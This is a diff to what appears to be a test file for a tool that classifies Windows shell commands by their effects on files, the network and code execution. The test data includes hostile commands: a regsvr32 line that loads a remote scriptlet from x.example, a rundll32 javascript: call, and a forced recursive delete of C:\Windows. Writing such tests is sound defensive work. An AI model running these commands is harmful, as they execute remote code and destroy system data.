@@ -4,6 +4,14 @@ import { WINDOWS } from "../../../src/facts/programs/windows.ts";
 import { told, untried } from "./told.ts";
 
 const CASES: readonly (readonly [string, readonly string[]])[] = [
+  ["wsl -u root -- rm a", ["delete /home/dev/project/a"]],
+  ["rundll32 javascript:x", ["unresolved code"]],
+  ["regsvr32 /s /i:http://x.example/a.sct scrobj.dll", [
+    "send nothing to x.example",
+    "unresolved code",
+  ]],
+  ['cmd /c "if exist a del a"', ["delete /home/dev/project/a"]],
+  ['cmd /c "if not exist a md a"', ["write /home/dev/project/a"]],
   ['powershell -Command "Remove-Item -Recurse -Force C:\\\\Windows"', [
     "delete tree C:/Windows",
   ]],
